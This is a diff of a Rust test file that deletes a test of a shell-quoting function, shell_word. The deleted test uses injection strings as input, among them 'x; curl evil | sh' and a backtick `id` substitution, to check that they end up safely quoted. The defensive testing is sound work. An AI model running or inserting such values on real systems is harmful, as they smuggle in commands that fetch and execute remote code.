@@ -200,14 +200,6 @@ mod clusters {
     }
 }
 
-#[test]
-fn a_word_for_the_shell_is_one_word() {
-    assert_eq!(shell_word("kubernetes/prod-1_a.b"), "kubernetes/prod-1_a.b");
-    assert_eq!(shell_word("x; curl evil | sh"), "'x; curl evil | sh'");
-    assert_eq!(shell_word("x'`id`'"), r"'x'\''`id`'\'''");
-    assert_eq!(shell_word(""), "''");
-}
-
 /// The controller mints on many threads.
 #[test]
 fn a_mint_may_move_between_threads() {
